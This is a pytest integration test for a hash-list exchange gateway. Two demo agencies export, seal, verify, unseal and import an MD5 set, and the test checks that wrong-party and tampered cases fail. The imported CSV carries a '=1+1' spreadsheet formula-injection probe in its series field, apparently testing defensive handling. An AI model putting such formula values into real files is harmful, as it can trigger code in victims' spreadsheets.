def test_by_hand_a_file_is_exported_checked_opened_and_imported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GATEWAY_DEMO_ARGON2_KIB", "8192")
    monkeypatch.setenv("GATEWAY_PASSPHRASE_FILE", "passphrase")
    monkeypatch.delenv("GATEWAY_HOME", raising=False)
    for name in ("passphrase", "alice.pass"):
        Path(name).touch(mode=0o600)
        Path(name).write_text("a long passphrase of tests\n")
    by = ("--admin", "alice", "--admin-passphrase-file", "alice.pass")
    for home, agency, port in (("xa", "XA-NCVI", "8440"), ("xb", XB, "8441")):
        where = ("--listen", f"127.0.0.1:{port}")
        gateway("--home", home, "init", "--demo", "--agency", agency, "--name", "A unit", *where)
        gateway("--home", home, "admin", "add", "alice", "--admin-passphrase-file", "alice.pass")
        gateway("--home", home, "identity", "export", f"{home}.json")
        law = ("--purpose", "tests", "--legal-basis", "XA Police Data Act 2019, section 12")
        gateway("--home", home, "set", "create", "found", *law, "--handling", "H1", "--evaluation", "B2")
    gateway("--home", "xa", "partner", "add", "xb.json", *by)
    digests = [hashlib.md5(str(number).encode()).hexdigest() for number in range(7)]
    Path("list.csv").write_text("md5,series\n" + "".join(f"{digest},=1+1\n" for digest in digests))
    gateway("--home", "xa", "import", "list.csv", "--set", "found")
    out = ("out.age", "--to", XB, "--form", "gateway_csv", "--sealed", "--manifest", "out.manifest")
    told = gateway("--home", "xa", "set", "export", "found", *out).stdout
    assert "7 entries" in told
    shown = json.loads(
        gateway("verify", "manifest", "out.manifest", "--card", "xa.json", "--file", "out.age", "--json").stdout
    )
    assert (shown["verified"], shown["entries"], shown["recipient"]) == (True, 7, XB)
    assert "7 of 7" in gateway("verify", "manifest", "out.manifest", "--card", "xa.json").stdout
    gateway("verify", "note", "out.age.note.json", "--card", "xa.json", "--file", "out.age")
    gateway("verify", "manifest", "out.manifest", "--card", "xb.json", exit_code=4)
    gateway("verify", "manifest", "out.manifest", "--card", "xa.json", "--file", "list.csv", exit_code=4)
    gateway("--home", "xb", "set", "unseal", "out.age", "out.csv")
    gateway("--home", "xa", "set", "unseal", "out.age", "mine.csv", exit_code=4)
    assert not Path("mine.csv").exists()
    report = json.loads(gateway("--home", "xb", "import", "out.csv", "--set", "found", "--json").stdout)
    assert (report["format"], report["added"], report["refused"]) == ("gateway_csv", 7, 0)
    # Without a place the manifest goes into the data folder, and the result says where.
    told = gateway("--home", "xa", "set", "export", "found", "v.json", "--to", XB, "--form", "vics", "--json").stdout
    value = json.loads(told)
    assert Path(value["manifest"]).parent == Path("xa/exports")
    gateway("verify", "manifest", value["manifest"], "--card", "xa.json", "--file", value["file"])
    gateway("--home", "xa", "set", "export", "found", "v.json", "--to", XB, "--form", "vics", exit_code=9)
    gateway("--home", "xa", "set", "export", "found", "w.json", "--to", "XC-NCVI", "--form", "vics", exit_code=7)
